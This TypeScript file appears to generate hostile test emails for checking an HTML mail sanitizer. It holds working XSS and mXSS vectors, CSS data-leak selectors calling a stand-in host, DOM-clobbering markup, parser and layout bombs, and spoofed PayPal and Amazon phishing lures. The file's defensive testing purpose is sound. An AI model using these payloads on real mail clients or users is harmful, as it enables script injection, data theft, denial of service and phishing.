import { PAYLOADS } from "./site-payloads.ts";

/** What each payload would do where it ran or fetched: the runner looks for both. */
const RUN = "window.ran=(window.ran||0)+1";
const OUT = "//outside.test/x";

/** Ways of CSS to tell somebody something, or to lay things over the page. */
const CSS: readonly string[] = [
  `@import "${OUT}.css";@import url(${OUT}.css) layer(a);`,
  `input[value^="a"]{background:url(${OUT}?a)} input[value^="b"]{background:url(${OUT}?b)}`,
  `a[href*="token=1"]{list-style-image:url(${OUT})}`,
  `@font-face{font-family:x;src:url(${OUT}.woff);unicode-range:U+0041}*{font-family:x}`,
  `*{background-image:image-set("${OUT}.png" 1x, url(${OUT}2.png) 2x)}`,
  `*{-webkit-mask:url(${OUT}.svg#m);mask-image:url(${OUT}.svg);clip-path:url(${OUT}.svg#c);filter:url(${OUT}.svg#f)}`,
  `*{border-image:url(${OUT}) 30;cursor:url(${OUT}),auto;content:url(${OUT});shape-outside:url(${OUT})}`,
  `*{--x:url(${OUT});background:var(--x)}`,
  `*{position:fixed;inset:0;z-index:2147483647;width:100vw;height:100vh}`,
  `:host{position:fixed!important;inset:0}::slotted(*){display:none}:host-context(html){display:none}`,
  `html{display:none!important}body::before{content:attr(data-x)}`,
  `@namespace url(${OUT});@document url(${OUT}){*{color:red}}@property --a{syntax:"<url>";inherits:false;initial-value:url(${OUT})}`,
  `*{behavior:url(${OUT}.htc);-moz-binding:url(${OUT}.xml#x);width:expression(${RUN})}`,
  `*{animation:x 1ms infinite}@keyframes x{from{background:url(${OUT})}}`,
  `*{background:u\\72l(${OUT});background:\\75\\72\\6c(${OUT});background:/**/url/**/(${OUT})}`,
];

/** Styles on elements: what a style attribute can try. */
const STYLES: readonly string[] = [
  `background:url(${OUT})`,
  `background-image:image-set('${OUT}' 1x)`,
  `background:red url( "${OUT}" )`,
  `color:red;background:\\75rl(${OUT})`,
  `list-style:url(${OUT})`,
  `content:url(${OUT})`,
  `cursor:url(${OUT}),pointer`,
  `position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999999`,
  `position:absolute;left:-99999px`,
  `margin:-99999px;transform:scale(1e9);zoom:1e9`,
  `width:1e9px;height:1e9px;font-size:1e9px;padding:1e9px;border:1e9px solid red`,
  `font-family:"x',url(${OUT})";font:1px/1 url(${OUT})`,
  `width:expression(${RUN});behavior:url(${OUT})`,
  `--a:url(${OUT});background:var(--a)`,
  `border-top:1px solid url(${OUT});border-image-source:url(${OUT})`,
  `color:rgb(${"1,".repeat(5000)}1)`,
  `${"a:b;".repeat(20_000)}background:url(${OUT})`,
  `animation:x 1s;transition:all 1s;will-change:transform;filter:blur(1e9px)`,
  `display:none!important;visibility:hidden;opacity:0`,
  `color:#fff;background:#fff url(${OUT}) fixed`,
];

/** Elements that fetch, run, move on, frame, or lay their name over something of the page. */
const ELEMENTS: readonly string[] = [
  `<img srcset="${OUT} 1x, ${OUT}2 2x" sizes=100vw src=cid:none>`,
  `<picture><source srcset="${OUT}"><img></picture>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'><image href='${OUT}'/></svg>">`,
  `<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAf/8AAH//CAIAAAD91JpzAAAAFElEQVR4nGP8z8Dwn4GBgYkBDAAhHAMBn7nPmQ==">`,
  `<img src="data:image/gif;base64,R0lGODlh//////8A${"AAAA".repeat(200)}">`,
  `<img src="data:text/html;base64,PHNjcmlwdD4=" lowsrc="${OUT}" dynsrc="${OUT}" longdesc="${OUT}" usemap="#m">`,
  `<meta http-equiv=refresh content="0;url=https:${OUT}"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href="https:${OUT}/" target=_top><a href="next">go on</a>`,
  `<iframe src="https:${OUT}"></iframe><iframe srcdoc="<script>parent.${RUN}</script>"></iframe><frameset><frame src="https:${OUT}"></frameset>`,
  `<object data="https:${OUT}" type="text/html"><param name=movie value="${OUT}"><embed src="https:${OUT}"></object><applet code="${OUT}"></applet>`,
  `<svg><foreignObject><iframe src="https:${OUT}"></iframe><body onload="${RUN}"></foreignObject><use href="${OUT}#a"/><image xlink:href="${OUT}"/><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg>${"<svg><foreignObject>".repeat(300)}<script>${RUN}</script>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml><maction actiontype="statusline#https:${OUT}" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<template><script>${RUN}</script><img src="${OUT}"></template><template shadowrootmode=open><style>@import "${OUT}"</style><slot></slot></template>`,
  `<form id=body name=body action="https:${OUT}"><input name=attributes id=children><input name=parentNode><button formaction="https:${OUT}" autofocus>x</button><input type=image src="${OUT}"></form>`,
  `<a id=showMailView name=showMailView href="https:${OUT}">x</a><a id=view>y</a><img name=querySelector id=getElementById><form name=document><input name=createElement></form>`,
  `<div id=host slot=x is="x-y" part=a data-mark=1 data-mark-show data-mail-view=view class="mark lit" contenteditable tabindex=1 accesskey=a popover autofocus>x</div>`,
  `<input autofocus onfocus="${RUN}"><details open ontoggle="${RUN}"><summary>x</summary></details><marquee onstart="${RUN}">x</marquee><body onpageshow="${RUN}">`,
  `<link rel=stylesheet href="${OUT}.css"><link rel=prefetch href="${OUT}"><link rel=preconnect href="https:${OUT}"><link rel=icon href="${OUT}"><link rel=import href="${OUT}">`,
  `<video src="${OUT}" poster="${OUT}" autoplay onerror="${RUN}"><track src="${OUT}" default></video><audio src="${OUT}" autoplay></audio><bgsound src="${OUT}">`,
  `<table background="${OUT}"><tr background="${OUT}"><td background="${OUT}" style="background:url(${OUT})">x</table><body background="${OUT}">`,
  `<a href="java\nscript:${RUN}">x</a><a href="&#1;javascript:${RUN}">x</a><a href="data:text/html,<script>${RUN}</script>">x</a><a href="vbscript:x" ping="https:${OUT}">x</a><a href="#" target=_top onclick="${RUN}">y</a>`,
  `<area href="javascript:${RUN}" alt="x"><map name=m><area shape=rect coords="0,0,999,999" href="https:${OUT}"></map>`,
  `<portal src="https:${OUT}"></portal><fencedframe></fencedframe><webview src="https:${OUT}"></webview><dialog open>x</dialog><selectlist></selectlist>`,
  `<xmp><img src=x onerror=${RUN}></xmp><plaintext><script>${RUN}</script>`,
  `<!--[if IE]><script>${RUN}</script><![endif]--><!doctype html [<!ENTITY x SYSTEM "https:${OUT}">]>&x;`,
  `<?xml-stylesheet href="${OUT}.xsl"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
];

/** Shapes that are costly for whoever builds a tree or lays it out. */
export const BOMBS: readonly (() => string)[] = [
  () => "<div>".repeat(100_000) + "x",
  () => "<b><i><u><font color=red>".repeat(25_000) + "x",
  () => `<table>${"<tr><td colspan=1000000000 rowspan=1000000000>x".repeat(3000)}</table>`,
  () => `<table><tr>${"<td colspan=1000>x</td>".repeat(4000)}</tr></table>`,
  () => "<table><tr><td>".repeat(5000) + "x",
  () => "<table width=100%><tr><td>a</td><td>".repeat(2000) + "x",
  () => `<div style="display:inline-block">`.repeat(3000) + "x",
  () => `<span style="display:inline-block;padding:40px;width:50%">`.repeat(3000) + "x",
  () => `<div style="padding:40px;margin:40px;border:8px solid red;font-size:2em">`.repeat(500) + "x",
  () => "<ul><li>".repeat(20_000) + "x",
  () => `<a href="https://a.example/${"x".repeat(60_000)}">${"y".repeat(60_000)}</a>`.repeat(8),
  () => Array.from({ length: 8000 }, (_, n) => `<a href="https://h${n}.example/${n}">x${n}</a>`).join(""),
  () => "\u200b\u202e".repeat(100_000),
  () => "&zwnj;&#8203;".repeat(60_000),
  () => `<span style="display:none">x</span>y`.repeat(20_000),
  () => `<p ${Array.from({ length: 50_000 }, (_, n) => `a${n}=1`).join(" ")}>x</p>`,
  () => "<".repeat(300_000),
  () => "</div>".repeat(100_000) + "<p>x",
  () => `<img src="data:image/png;base64,${"A".repeat(400_000)}">`,
  () => `<img src="https://outside.test/a.png" width=999999 height=999999 alt="${"長".repeat(100_000)}">`.repeat(3),
  () => "<svg><foreignObject><div>".repeat(20_000) + "x",
  () => "<select><option>x".repeat(20_000),
  () => "<form action='https://outside.test/'><input type=password value=x>".repeat(5000),
  () => "A\u0300\u0301\u0302\u0303".repeat(30_000),
  () => "ᄒ".repeat(100_000),
  () => "\u{1F468}\u200D".repeat(40_000),
  () => "<p>".repeat(60_000),
  () => "<blockquote>".repeat(30_000) + "x",
];

/** Numbers that come again with the same seed (mulberry32). */
function numbers(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}

/** Ways to put a piece somewhere inside others. */
const WRAPS: readonly ((piece: string, style: string) => string)[] = [
  (piece) => piece,
  (piece) => `<p>Dear customer</p>${piece}<p>your account</p>`,
  (piece, style) => `<div style="${style}">${piece}</div>`,
  (piece, style) => `<table bgcolor="${style}"><tr><td style='${style}'>${piece}</td></tr></table>`,
  (piece, style) => `<style>${style}</style>${piece}`,
  (piece) => `<a href="${piece}">${piece}</a>`,
  (piece) => `<a href='${piece}' title="${piece}">PayPal login</a>`,
  (piece, style) => `<img alt="${piece}" src="${piece}" style="${style}" width="${piece}">`,
  (piece) => `<div class="${piece}" id='${piece}' align=${piece}>x</div>`,
  (piece) => `<!-- ${piece} --><![CDATA[${piece}]]>${piece}`,
  (piece) => `<svg><desc>${piece}</desc></svg><math><mi>${piece}`,
  (piece) => `<span style="display:none">${piece}</span>re<span style="font-size:0">${piece}</span>al`,
  (piece) => piece.replace(/[<>"'&]/g, (character) => `&#${character.charCodeAt(0)};`),
  (piece) => `<td><tr></div></table>${piece}<a><a><b><p></b></a>`,
];

const SENDERS = ["PayPal <service@paypa1.example>", "Amazon.co.jp <a@b.example>", "XSERVER SUPPORT <support@xserver.jp>", "x <y@example.org>"];
/** Texts that give points, so that there are marks among the hostile pieces. */
const LURES = [
  '<a href="https://paypal-login.evil.example/?u=you@example.com">https://www.paypal.com/</a> Your PayPal account is suspended within 24 hours',
  "お客様のAmazonアカウントを確認してください <a href='http://192.0.2.7/amazon'>ログイン</a>",
  "",
];

const base64 = (text: string): string => Buffer.from(text, "utf8").toString("base64");
const folded = (text: string): string => text.replace(/.{1,76}/g, "$&\r\n");
const oneLine = (text: string): string => text.replace(/[\r\n]+/g, " ").slice(0, 2000);

/** `count` hostile mails, the same ones for the same count and further pieces: payloads inside each other, bombs, torn ones. */
export function* hostileMails(count: number, further: readonly string[] = []): Generator<Uint8Array> {
  const random = numbers(20261126);
  const pick = <T>(from: readonly T[]): T => from[Math.floor(random() * from.length)] as T;
  const pieces = [...PAYLOADS, ...ELEMENTS, ...CSS.map((css) => `<style>${css}</style>`), ...further];
  for (let index = 0; index < count; index++) {
    // Every piece alone first, then every bomb, then mixtures.
    const bomb = index - pieces.length;
    const some = index < pieces.length ? [pieces[index] as string] : Array.from({ length: 1 + Math.floor(random() * 4) }, () => pick(pieces));
    const style = pick(random() < 0.5 ? STYLES : CSS);
    let body = some.map((piece) => pick(WRAPS)(piece, style)).join(pick(["", "\n", "<br>", "<td>", "</div>"]));
    if (bomb >= 0 && bomb < BOMBS.length) body = (BOMBS[bomb] as () => string)();
    else if (bomb >= BOMBS.length && random() < 0.004) body += pick(BOMBS)();
    if (index >= pieces.length + BOMBS.length && random() < 0.35) body = torn(body, random);
    yield mailOf(pick(LURES) + body, oneLine(pick(some)), random, pick);
  }
}

/** A text with pieces cut out, doubled or marks put in: what no author would write. */
function torn(text: string, random: () => number): string {
  let out = text;
  for (let times = 1 + Math.floor(random() * 4); times > 0; times--) {
    const at = Math.floor(random() * out.length);
    const mark = ["<", ">", '"', "'", "&", "\0", "-->", "</style>", "]]>", "\ud800", "=", "/>", "<!--", "`", "\u2028"][Math.floor(random() * 15)] as string;
    out = random() < 0.3 ? out.slice(0, at) + out.slice(at + Math.floor(random() * 20)) : out.slice(0, at) + mark + out.slice(at);
  }
  return out;
}

function mailOf(html: string, piece: string, random: () => number, pick: <T>(from: readonly T[]) => T): Uint8Array {
  const encoded = `=?UTF-8?B?${base64(piece.slice(0, 400))}?=`;
  const from = random() < 0.5 ? pick(SENDERS) : `${encoded} <${random() < 0.5 ? "a@b.example" : piece.replace(/[<>]/g, "")}>`;
  const head = [
    `From: ${from}`,
    `To: you@example.com`,
    `Subject: ${random() < 0.5 ? encoded : piece}`,
    "Date: Thu, 26 Nov 2026 00:00:00 +0000",
    "MIME-Version: 1.0",
  ];
  const kind = random();
  if (kind < 0.1) return bytes([...head, "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit", "", html]);
  const charset = pick(["utf-8", "utf-8", "utf-8", "utf-7", "iso-2022-jp", "shift_jis", "utf-16", "x-user-defined"]);
  const part = [`Content-Type: text/html; charset=${charset}`, "Content-Transfer-Encoding: base64", "", folded(base64(html))];
  if (kind < 0.7) return bytes([...head, ...part]);
  const named = `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(piece.toWellFormed().slice(0, 200))}`;
  const attached = [
    "Content-Type: image/svg+xml",
    "Content-ID: <none>",
    named,
    "Content-Transfer-Encoding: base64",
    "",
    folded(base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`)),
  ];
  const plain = ["Content-Type: text/plain; charset=utf-8", "", piece];
  return bytes([...head, 'Content-Type: multipart/mixed; boundary="b"', "", "--b", ...plain, "--b", ...part, "--b", ...attached, "--b--", ""]);
}

const bytes = (lines: readonly string[]): Uint8Array => new TextEncoder().encode(lines.join("\r\n"));
